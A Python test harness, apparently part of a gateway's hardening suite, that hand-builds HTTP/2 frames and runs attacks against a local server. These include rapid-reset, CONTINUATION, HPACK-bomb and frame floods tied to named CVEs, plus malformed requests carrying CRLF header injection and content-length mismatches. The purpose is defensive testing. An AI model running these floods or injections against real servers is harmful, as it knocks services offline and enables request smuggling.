#!/usr/bin/env python3
"""A hostile HTTP/2 client with hand-built frames (HARDENING.md §B2-§B3), for the gateway's abuse tests.

Connects to 127.0.0.1:PORT with prior knowledge (h2c), or with TLS and ALPN h2 (--tls), runs one attack and
prints one JSON line with what it saw:
  goaway          {"code", "lastStreamId", "debug"} of the first GOAWAY received, or null
  resets          {stream id: error code} of the RST_STREAM frames received
  statuses        {stream id: :status} of the final response heads received
  dataBytes       DATA payload bytes received
  closed          the gateway closed the connection (EOF or reset) before the script finished
  reset           reading ended with a TCP reset instead of a clean EOF
  sendFailed      a write failed because the gateway had closed (or reset) the connection
  sendBlocked     the gateway stopped reading (our writes blocked) at some point
  framesSent      frames written; bytesReceived: bytes the gateway sent; elapsed: seconds
Every frame and every HPACK block sent is built by hand here (no HTTP/2 library), so the script can send what
a library would refuse to; only the gateway's response header blocks are decoded with the `hpack` package.

Attacks:
  rapid-reset        --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487); --split: each RST_STREAM
                     written 2 ms after its HEADERS
  continuation       --count N: HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
  hpack-bomb         --count N: a 4000-byte header put in the dynamic table, then one block that references
                     it N times (CVE-2016-6581)
  settings-flood     --count N: SETTINGS frames (CVE-2019-9515)
  ping-flood         --count N: PING frames (CVE-2019-9512); --no-read: never read while sending
  empty-data         --count N: DATA frames of length 0 without END_STREAM on an open stream (CVE-2019-9518)
  priority-flood     --count N: PRIORITY frames naming N idle streams, then a GET above them (CVE-2019-9513);
                     its status is reported as followStatus
  window-update-flood --count N: connection WINDOW_UPDATE(1) frames, then a GET (followStatus)
  zero-window        --count N streams: SETTINGS_INITIAL_WINDOW_SIZE 0, GET --path on N streams, never
                     WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
                     (CVE-2019-9517, CVE-2019-9511)
  slow-read          all windows open, GET --path, then the socket is not read for --hold seconds (prints
                     "local PORT" first, so the caller can watch the connection); --trickle B: B bytes are
                     read every 200 ms instead
  many-streams       --count N: N requests without END_STREAM before reading anything (over max concurrent);
                     --ack-first: after acknowledging the server's SETTINGS
  malformed          --case NAME[,NAME...]: per case, on a new connection, one malformed request (see MALFORMED)
                     then a valid GET of --follow-path on the next stream, one JSON line per case; --split
                     writes the DATA only once the head was sent
  valid              one valid GET (sanity)
  polite             --count N GETs of --path with the PRIORITY and WINDOW_UPDATE frames real clients send
                     (every DATA frame answered with two WINDOW_UPDATEs); must not be taken for a flood
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte_flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    raw = text.encode("latin-1") if isinstance(text, str) else text
    return hpack_int(len(raw), 7, 0x00) + raw


def literal(name, value, indexing=False):
    """A literal field with a literal name: without indexing (0x00) or with incremental indexing (0x40)."""
    return (b"\x40" if indexing else b"\x00") + hpack_string(name) + hpack_string(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def block(fields):
    return b"".join(literal(name, value) for name, value in fields)


def request_fields(authority, path, method="GET", extra=()):
    return [(":method", method), (":scheme", "http"), (":authority", authority), (":path", path)] + list(extra)


class Connection:
    def __init__(self, args):
        raw = socket.create_connection(("127.0.0.1", args.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname=args.authority.split(":")[0])
        raw.setblocking(False)
        self.sock = raw
        self.inbound = bytearray()
        self.result = {"goaway": None, "resets": {}, "statuses": {}, "dataBytes": 0, "closed": False,
                       "reset": False, "sendBlocked": False, "sendFailed": False, "framesSent": 0,
                       "bytesReceived": 0, "settingsAcked": 0,
                       "pingAcks": 0}
        self.auto_ack = True
        self.server_settings = False
        self.started = time.monotonic()
        self.open_block = None  # (stream id, fragments) while a header block spans CONTINUATION frames
        # Only inbound blocks are decoded with a library (the gateway's HPACK state must be followed exactly).
        self.decoder = hpack.Decoder(max_header_list_size=1 << 20)
        self.on_data = None  # called with (stream, payload length) for every DATA frame received

    # Writing: never blocks for longer than `patience`; reads while waiting unless told not to.
    def send(self, data, frames=1, read=True, patience=3.0):
        view = memoryview(data)
        deadline = time.monotonic() + patience
        while view and not self.result["closed"] and not self.result["sendFailed"]:
            try:
                sent = self.sock.send(view)
                view = view[sent:]
                deadline = time.monotonic() + patience
                continue
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self.result["sendBlocked"] = True
            except (BrokenPipeError, ConnectionResetError, OSError):
                # The gateway closed; what it sent before (a GOAWAY) may still be readable.
                self.result["sendFailed"] = True
                break
            if time.monotonic() > deadline:
                return False
            readers = [self.sock] if read else []
            ready_read, _, _ = select.select(readers, [self.sock], [], 0.05)
            if ready_read:
                self.read_available()
        if not view:
            self.result["framesSent"] += frames
        return not view

    def read_available(self):
        while not self.result["closed"]:
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except (ConnectionResetError, OSError):
                self.result["closed"] = True
                self.result["reset"] = True
                return
            if not chunk:
                self.result["closed"] = True
                return
            self.result["bytesReceived"] += len(chunk)
            self.inbound += chunk
            self.parse()

    def pump(self, seconds, until=None):
        """Reads for up to `seconds`, or until `until()` holds or the connection closes."""
        deadline = time.monotonic() + seconds
        while not self.result["closed"] and time.monotonic() < deadline:
            if until is not None and until():
                return
            ready, _, _ = select.select([self.sock], [], [], min(0.05, max(0.0, deadline - time.monotonic())))
            if ready or (hasattr(self.sock, "pending") and self.sock.pending()):
                self.read_available()

    def parse(self):
        while len(self.inbound) >= 9:
            length = int.from_bytes(self.inbound[0:3], "big")
            if len(self.inbound) < 9 + length:
                return
            kind, flags = self.inbound[3], self.inbound[4]
            stream = int.from_bytes(self.inbound[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbound[9:9 + length])
            del self.inbound[:9 + length]
            self.on_frame(kind, flags, stream, payload)

    def on_frame(self, kind, flags, stream, payload):
        r = self.result
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            r["streamsEnded"] = r.get("streamsEnded", 0) + 1
        if kind == SETTINGS and not flags & ACK:
            self.server_settings = True
            if self.auto_ack:
                self.sock_send_quiet(frame(SETTINGS, ACK, 0))
        elif kind == SETTINGS:
            r["settingsAcked"] += 1
        elif kind == PING and flags & ACK:
            r["pingAcks"] += 1
        elif kind == GOAWAY and r["goaway"] is None:
            last, code = struct.unpack(">II", payload[:8])
            r["goaway"] = {"lastStreamId": last & 0x7FFFFFFF, "code": code,
                           "debug": payload[8:].decode("utf-8", "replace")}
        elif kind == RST_STREAM:
            r["resets"][str(stream)] = struct.unpack(">I", payload[:4])[0]
        elif kind == DATA:
            r["dataBytes"] += length_without_padding(flags, payload)
            if self.on_data is not None:
                self.on_data(stream, len(payload))
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                self.open_block = (stream, [strip_headers_padding(flags, payload)])
            elif self.open_block is not None:
                self.open_block[1].append(payload)
            if flags & END_HEADERS and self.open_block is not None:
                fields = self.decoder.decode(b"".join(self.open_block[1]), raw=True)
                status = dict(fields).get(b":status", b"").decode("latin-1")
                if status and not status.startswith("1"):
                    r["statuses"].setdefault(str(self.open_block[0]), int(status))
                self.open_block = None

    def ended(self):
        r = self.result
        return r["closed"] or r["sendFailed"] or r["goaway"] is not None

    def sock_send_quiet(self, data):
        """A small control frame (SETTINGS ACK) written while reading; dropped if the socket is full."""
        try:
            self.sock.send(data)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError, OSError):
            pass

    def start(self, settings=b""):
        """Preface and SETTINGS, then the server's SETTINGS read and acknowledged, so no ACK has to be written
        in the middle of an attack (inside a header block, say)."""
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.pump(5, until=lambda: self.server_settings)

    def finish(self, attack, extra=None):
        r = self.result
        if r["goaway"] is not None:
            # After a GOAWAY the gateway must close: wait for it (bounded).
            self.pump(3, until=lambda: r["closed"])
        r["attack"] = attack
        r["elapsed"] = round(time.monotonic() - self.started, 3)
        if extra:
            r.update(extra)
        print(json.dumps(r), flush=True)
        try:
            self.sock.close()
        except OSError:
            pass


def length_without_padding(flags, payload):
    if flags & PADDED and payload:
        return len(payload) - 1 - payload[0]
    return len(payload)


def strip_headers_padding(flags, payload):
    start, end = 0, len(payload)
    if flags & PADDED:
        end -= payload[0]
        start = 1
    if flags & PRIORITY_FLAG:
        start += 5
    return payload[start:end]


def headers_frame(stream, fields, end_stream=True):
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return frame(HEADERS, flags, stream, block(fields))


def header_frames(stream, fragment, end_stream=True, limit=16384):
    """A header block as HEADERS plus as many CONTINUATION frames as the frame size limit needs."""
    chunks = [fragment[i:i + limit] for i in range(0, len(fragment), limit)] or [b""]
    out = bytearray()
    for index, chunk in enumerate(chunks):
        kind = HEADERS if index == 0 else CONTINUATION
        flags = (END_STREAM if index == 0 and end_stream else 0) | (END_HEADERS if index == len(chunks) - 1 else 0)
        out += frame(kind, flags, stream, chunk)
    return bytes(out)


# MARK: attacks

def rapid_reset(c, args):
    c.start()
    batch = bytearray()
    for i in range(args.count):
        stream = 1 + 2 * i
        batch += headers_frame(stream, request_fields(args.authority, args.path))
        if args.split:
            # The HEADERS goes out alone and the RST_STREAM a moment later, so the gateway reads them apart
            # and has started the request when the reset comes (the costlier form of the attack).
            c.send(bytes(batch), frames=0)
            batch.clear()
            c.pump(0.002)
        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))
        if len(batch) > 16384 or args.split:
            c.send(bytes(batch), frames=0)
            batch.clear()
        if c.ended():
            break
    c.send(bytes(batch), frames=0)
    c.result["framesSent"] = 2 * (i + 1)
    c.pump(3, until=lambda: c.result["goaway"] is not None)
    c.pump(1)
    c.finish("rapid-reset", {"pairsSent": i + 1})


def continuation(c, args):
    c.start()
    first = block(request_fields(args.authority, args.path))
    c.send(frame(HEADERS, END_STREAM, 1, first))
    sent = 0
    for i in range(args.count):
        # Each fragment adds a literal header so the block keeps growing (in both raw and decoded size).
        fragment = literal("x-flood-%d" % i, "v" * 200)
        if not c.send(frame(CONTINUATION, 0, 1, fragment)):
            break
        sent += 1
        if c.ended():
            break
        if i % 16 == 0:
            c.read_available()
            if c.result["goaway"]:
                break
    c.pump(3, until=lambda: c.result["goaway"] is not None)
    c.finish("continuation", {"continuationsSent": sent})


def hpack_bomb(c, args):
    c.start()
    # Stream 1: a normal request that inserts a 4000-byte field into the dynamic table (entry 62).
    fields = block(request_fields(args.authority, args.path)) + literal("x-bomb", "b" * 4000, indexing=True)
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, fields))
    # Stream 3: a block of N one-byte references to that entry: N * 4 KiB decoded from N bytes.
    bomb = block(request_fields(args.authority, args.path)) + indexed(62) * args.count
    chunks = [bomb[i:i + 16000] for i in range(0, len(bomb), 16000)]
    payload = bytearray()
    for index, chunk in enumerate(chunks):
        kind = HEADERS if index == 0 else CONTINUATION
        flags = (END_STREAM if index == 0 else 0) | (END_HEADERS if index == len(chunks) - 1 else 0)
        payload += frame(kind, flags, 3, chunk)
    c.send(bytes(payload), frames=len(chunks))
    c.pump(3, until=lambda: c.result["goaway"] is not None or "3" in c.result["resets"])
    c.pump(0.3)
    c.finish("hpack-bomb", {"referencesSent": args.count})


def frame_flood(c, args, kind):
    """PRIORITY frames for (idle) streams, or WINDOW_UPDATE frames on the connection, as fast as possible
    (CVE-2019-9513 and the WINDOW_UPDATE storm of HARDENING §B3.7)."""
    c.start()
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    sent = 0
    while sent < args.count:
        size = min(256, args.count - sent)
        if kind == PRIORITY:
            # Each PRIORITY names a different idle stream, as a priority tree of idle streams would grow.
            batch = b"".join(frame(PRIORITY, 0, 1 + 2 * (sent + i), struct.pack(">IB", 0, 15))
                             for i in range(size))
        else:
            batch = update * size
        if not c.send(batch, frames=size):
            break
        sent += size
        c.read_available()
        if c.ended():
            break
    # Then a request on the same connection, on a stream above every one named: answered if the flood passed.
    follow = 1 + 2 * (sent + 1)
    if not c.ended():
        c.send(headers_frame(follow, request_fields(args.authority, args.path)))
        c.pump(3, until=lambda: str(follow) in c.result["statuses"] or c.ended())
    c.finish("priority-flood" if kind == PRIORITY else "window-update-flood",
             {"floodFramesSent": sent, "followStatus": c.result["statuses"].get(str(follow))})


def polite(c, args):
    """What real clients do with PRIORITY and WINDOW_UPDATE, which must not look like a flood: a connection
    WINDOW_UPDATE right after the preface (curl, browsers), five PRIORITY frames building a tree of idle streams
    (Firefox before RFC 9218), then --count GETs of --path, each with a PRIORITY frame of its own and a stream
    WINDOW_UPDATE, and every DATA frame received answered with a stream and a connection WINDOW_UPDATE (the most
    eager flow control a client can have)."""
    c.start()
    opening = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 24)))
    opening += b"".join(frame(PRIORITY, 0, 3 + 2 * i, struct.pack(">IB", 0, 200)) for i in range(5))
    c.send(opening, frames=6)
    streams = [13 + 2 * i for i in range(args.count)]
    batch = bytearray()
    for stream in streams:
        batch += headers_frame(stream, request_fields(args.authority, args.path))
        batch += frame(PRIORITY, 0, stream, struct.pack(">IB", 3, 31))
        batch += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1 << 20))
    c.send(bytes(batch), frames=3 * len(streams))
    updates = {"sent": 0}

    def on_data(stream, length):
        if length > 0:
            c.sock_send_quiet(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", length))
                              + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length)))
            updates["sent"] += 2

    c.on_data = on_data
    done = lambda: all(str(s) in c.result["statuses"] for s in streams) and c.result.get("streamsEnded", 0) >= len(streams)
    c.pump(args.hold, until=lambda: done() or c.ended())
    c.finish("polite", {"windowUpdatesSent": updates["sent"]})


def control_flood(c, args, kind):
    c.start()
    if kind == SETTINGS:
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535))
    else:
        one = frame(PING, 0, 0, b"12345678")
    batch = one * 256
    batches = max(1, args.count // 256)
    sent = 0
    for _ in range(batches):
        if not c.send(batch, frames=256, read=not args.no_read, patience=args.hold):
            break
        sent += 256
        if c.ended():
            break
    # Read what is left: the gateway's answer to the flood.
    c.pump(3, until=lambda: c.result["goaway"] is not None)
    c.finish("settings-flood" if kind == SETTINGS else "ping-flood", {"floodFramesSent": sent})


def empty_data(c, args):
    c.start()
    c.send(headers_frame(1, request_fields(args.authority, args.path, "POST"), end_stream=False))
    sent = 0
    for _ in range(args.count):
        if not c.send(frame(DATA, 0, 1)):
            break
        sent += 1
        if c.ended():
            break
        c.read_available()
    c.pump(3, until=lambda: c.result["goaway"] is not None)
    c.finish("empty-data", {"emptyFramesSent": sent})


def zero_window(c, args):
    c.start(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))
    requests = bytearray()
    for i in range(args.count):
        requests += headers_frame(1 + 2 * i, request_fields(args.authority, args.path))
    c.send(bytes(requests), frames=args.count)
    # Never send WINDOW_UPDATE (or, with --dribble N, N bytes per stream every 200 ms): watch until every stream
    # was reset, the connection closed, or --hold passed.
    done = lambda: len(c.result["resets"]) >= args.count or c.result["goaway"] is not None
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline and not done() and not c.result["closed"]:
        if args.dribble:
            updates = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * i, struct.pack(">I", args.dribble))
                               for i in range(args.count))
            c.send(updates, frames=args.count)
        c.pump(min(0.2, max(0.0, deadline - time.monotonic())), until=done)
    c.finish("zero-window", {"streams": args.count})


def slow_read(c, args):
    """Opens every HTTP/2 window, asks for a large body and then stops reading the socket for --hold seconds
    (the TCP receive window closes: HARDENING §B4.3), then reads what is left."""
    c.start(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
           + headers_frame(1, request_fields(args.authority, args.path)))
    # The caller watches the gateway's side of this connection meanwhile.
    print("local", c.sock.getsockname()[1], flush=True)
    if args.trickle:
        # A slow but live reader: --trickle bytes every 200 ms (raw bytes, not parsed: counted in bytesReceived).
        deadline = time.monotonic() + args.hold
        while time.monotonic() < deadline:
            time.sleep(0.2)
            try:
                c.result["bytesReceived"] += len(c.sock.recv(args.trickle))
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
        c.finish("slow-read", {"trickled": True})
        return
    time.sleep(args.hold)  # the attack itself: a client that does not read
    c.pump(10, until=lambda: c.result["closed"])
    c.finish("slow-read")


def many_streams(c, args):
    if args.ack_first:
        # A well-behaved client: the server's SETTINGS are acknowledged before the streams open.
        c.start()
        payload = b""
    else:
        # Everything in one write, before reading (and acknowledging) the server's SETTINGS.
        c.auto_ack = False
        payload = PREFACE + frame(SETTINGS, 0, 0)
    for i in range(args.count):
        payload += headers_frame(1 + 2 * i, request_fields(args.authority, args.path, "POST"), end_stream=False)
    c.send(payload, frames=args.count + 1, read=False)
    refused = lambda: sum(1 for code in c.result["resets"].values() if code == 0x7)
    c.pump(3, until=lambda: c.result["goaway"] is not None or refused() >= args.count - 100)
    c.finish("many-streams", {"streams": args.count})


def malformed_case(name, authority, path):
    """The header block (and DATA frames) of a malformed request on stream 1 (HARDENING §B2)."""
    base = request_fields(authority, path)
    post = request_fields(authority, path, "POST")
    cases = {
        "uppercase-name": (base + [("X-Upper", "1")], []),
        "connection": (base + [("connection", "keep-alive")], []),
        "keep-alive": (base + [("keep-alive", "timeout=5")], []),
        "proxy-connection": (base + [("proxy-connection", "keep-alive")], []),
        "transfer-encoding": (post + [("transfer-encoding", "chunked")], [b"0\r\n\r\n"]),
        "upgrade": (base + [("upgrade", "websocket")], []),
        "te-gzip": (base + [("te", "gzip")], []),
        "missing-method": ([f for f in base if f[0] != ":method"], []),
        "missing-path": ([f for f in base if f[0] != ":path"], []),
        "missing-scheme": ([f for f in base if f[0] != ":scheme"], []),
        "duplicate-path": (base + [(":path", "/admin")], []),
        "duplicate-method": ([(":method", "GET")] + base, []),
        "pseudo-after-regular": ([("x-first", "1")] + base, []),
        "unknown-pseudo": (base + [(":protocol-x", "1")], []),
        "relative-path": ([f if f[0] != ":path" else (":path", "admin") for f in base], []),
        "authority-host-mismatch": (base + [("host", "other.example")], []),
        "crlf-in-value": (base + [("x-inject", "a\r\ntransfer-encoding: chunked")], []),
        "nul-in-value": (base + [("x-nul", "a\x00b")], []),
        "leading-space": (base + [("x-space", " a")], []),
        "empty-name": (base + [("", "x")], []),
        "cl-zero-with-data": (post + [("content-length", "0")], [b"G" * 40]),
        "cl-short": (post + [("content-length", "10")], [b"G" * 40]),
        "cl-long": (post + [("content-length", "100")], [b"G" * 40]),
        "too-many-headers": (base + [("x-h-%d" % i, "v") for i in range(120)], []),
        "too-many-cookies": (base + [("cookie", "c%d=v" % i) for i in range(120)], []),
        # Over the 60 KiB header list but under nghttp2's 64 KiB per field: a stream error.
        "huge-header": (base + [("x-huge", "h" * (62 * 1024))], []),
        "huge-path": ([f if f[0] != ":path" else (":path", "/" + "p" * (62 * 1024)) for f in base], []),
        # Over 64 KiB in one field: nghttp2's HPACK decoder gives up, a connection error (COMPRESSION_ERROR).
        "giant-header": (base + [("x-giant", "g" * (70 * 1024))], []),
    }
    return cases[name]


MALFORMED = [
    "uppercase-name", "connection", "keep-alive", "proxy-connection", "transfer-encoding", "upgrade", "te-gzip",
    "missing-method", "missing-path", "missing-scheme", "duplicate-path", "duplicate-method",
    "pseudo-after-regular", "unknown-pseudo", "relative-path", "authority-host-mismatch", "crlf-in-value",
    "nul-in-value", "leading-space", "empty-name", "cl-zero-with-data", "cl-short", "cl-long",
    "too-many-headers", "too-many-cookies", "huge-header", "huge-path", "giant-header",
]


def malformed(c, args):
    if args.case not in MALFORMED:
        raise SystemExit("unknown case %r; known: %s" % (args.case, ", ".join(MALFORMED)))
    c.start()
    fields, bodies = malformed_case(args.case, args.authority, args.path)
    payload = header_frames(1, block(fields), end_stream=not bodies)
    if bodies and args.split:
        # The head alone first, so the gateway has started the request before the DATA breaks it.
        c.send(payload)
        c.pump(0.3, until=lambda: "1" in c.result["resets"])
        payload = b""
    for index, body in enumerate(bodies):
        payload += frame(DATA, END_STREAM if index == len(bodies) - 1 else 0, 1, body)
    c.send(payload, frames=1 + len(bodies))
    c.pump(3, until=lambda: "1" in c.result["resets"] or "1" in c.result["statuses"]
           or c.result["goaway"] is not None)
    # The connection must still serve a valid request (unless the gateway ended it).
    if not c.ended():
        c.send(headers_frame(3, request_fields(args.authority, args.follow_path or args.path)))
        c.pump(5, until=lambda: "3" in c.result["statuses"] or "3" in c.result["resets"])
    c.finish("malformed", {"case": args.case})


def valid(c, args):
    c.start()
    c.send(headers_frame(1, request_fields(args.authority, args.path)))
    c.pump(5, until=lambda: "1" in c.result["statuses"])
    c.finish("valid")


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "settings-flood": lambda c, a: control_flood(c, a, SETTINGS),
    "ping-flood": lambda c, a: control_flood(c, a, PING),
    "empty-data": empty_data,
    "priority-flood": lambda c, a: frame_flood(c, a, PRIORITY),
    "window-update-flood": lambda c, a: frame_flood(c, a, WINDOW_UPDATE),
    "zero-window": zero_window,
    "many-streams": many_streams,
    "slow-read": slow_read,
    "malformed": malformed,
    "valid": valid,
    "polite": polite,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--authority", default="abuse.example")
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--case", help="malformed: one of MALFORMED, or several separated by commas")
    parser.add_argument("--follow-path", help="malformed: the path of the valid request that follows")
    parser.add_argument("--split", action="store_true",
                        help="malformed: HEADERS and DATA in separate writes; rapid-reset: HEADERS and RST apart")
    parser.add_argument("--ack-first", action="store_true", help="many-streams: acknowledge SETTINGS first")
    parser.add_argument("--no-read", action="store_true")
    parser.add_argument("--hold", type=float, default=3.0)
    parser.add_argument("--trickle", type=int, default=0, help="slow-read: read this many bytes every 200 ms")
    parser.add_argument("--dribble", type=int, default=0, help="zero-window: window bytes per stream every 200 ms")
    args = parser.parse_args()
    if args.attack == "malformed" and not args.case:
        parser.error("malformed needs --case")
    if args.attack == "malformed":
        # Several cases in one run, each on its own connection, one JSON line each.
        for case in args.case.split(","):
            args.case = case
            malformed(Connection(args), args)
        return 0
    connection = Connection(args)
    ATTACKS[args.attack](connection, args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
